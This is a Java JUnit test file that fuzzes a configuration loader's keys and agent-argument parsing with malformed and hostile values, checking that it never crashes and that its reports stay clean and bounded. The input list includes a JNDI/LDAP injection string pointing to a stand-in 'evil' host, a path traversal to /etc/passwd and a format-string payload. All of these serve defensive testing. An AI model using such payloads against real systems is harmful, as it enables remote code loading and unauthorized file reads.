package dev.spool.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.spool.internal.config.ConfigKey;
import dev.spool.internal.config.SpoolConfig;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Every configuration key with wrong-typed, empty, huge and hostile values, from a system property
 * and from agent arguments (extends SpoolConfigTest, which covers one bad value per kind). Checked:
 * loading never throws; each report is one line naming the key and cut to a bounded length; a
 * rejected value leaves the key at its default; an accepted value is reported as in effect.
 */
class HostileConfigTest {
    private static final List<String> HOSTILE = List.of("", " ", "\t", "x".repeat(1 << 20), "-1", "0",
            "9".repeat(40), "NaN", "1e309", "-0", "0x10", "1_000", "true;false", "TRUE ", "\u0000\n\r\u001b[31m",
            "${jndi:ldap://evil/a}", "../../../../etc/passwd", "\u202e\ufeff", "a=b", "%s%n%x", "**/[", "{a,b");

    @Test
    void shouldSurviveEveryHostileValueForEveryKey() {
        for (ConfigKey key : ConfigKey.values()) {
            if (key == ConfigKey.CONFIG_FILE) continue; // a path to read: covered by SpoolConfigTest (unreadable file)
            for (String value : HOSTILE) {
                List<String> problems = new ArrayList<>();
                SpoolConfig cfg = SpoolConfig.load(null, Map.of(key.key(), value), Map.of(), problems::add);
                String effective = cfg.asMap().get(key.key());
                String what = key.key() + "=" + printable(value);
                for (String p : problems) {
                    assertFalse(p.contains("\n") || p.contains("\r") || p.contains("\u0000") || p.contains("\u001b"),
                            "report is not one clean line: " + what + " -> " + printable(p));
                    assertTrue(p.length() < 2000, "report not cut: " + what + " (" + p.length() + " chars)");
                    assertTrue(p.contains(key.key()), "report does not name the key: " + what + " -> " + p);
                }
                if (!problems.isEmpty()) {
                    assertEquals(key.defaultText(), effective, "rejected value must leave the default: " + what);
                }
            }
        }
    }

    @Test
    void shouldSurviveHostileAgentArgumentStrings() {
        List<String> args = List.of(",,,", "=", "==,=", "spool.enabled", "buffer.capacity=1=2", ";;;",
                "a".repeat(100_000) + "=1", "buffer.capacity=5,buffer.capacity=6", "\u0000=\u0000", "sink.policy=drop;block");
        for (String a : args) {
            List<String> problems = new ArrayList<>();
            SpoolConfig cfg = SpoolConfig.load(a, Map.of(), Map.of(), problems::add);
            assertTrue(cfg.asMap().size() >= ConfigKey.values().length - 1, "config lost keys for " + printable(a));
            for (String p : problems) {
                assertFalse(p.contains("\n") || p.contains("\u0000"), "not one clean line: " + printable(p));
                assertTrue(p.length() < 2000, "report not cut for " + printable(a));
            }
        }
    }

    private static String printable(String s) {
        String cut = s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + ")" : s;
        StringBuilder b = new StringBuilder();
        for (char c : cut.toCharArray()) b.append(c < 0x20 || c == 0x7f ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        return b.toString();
    }
}
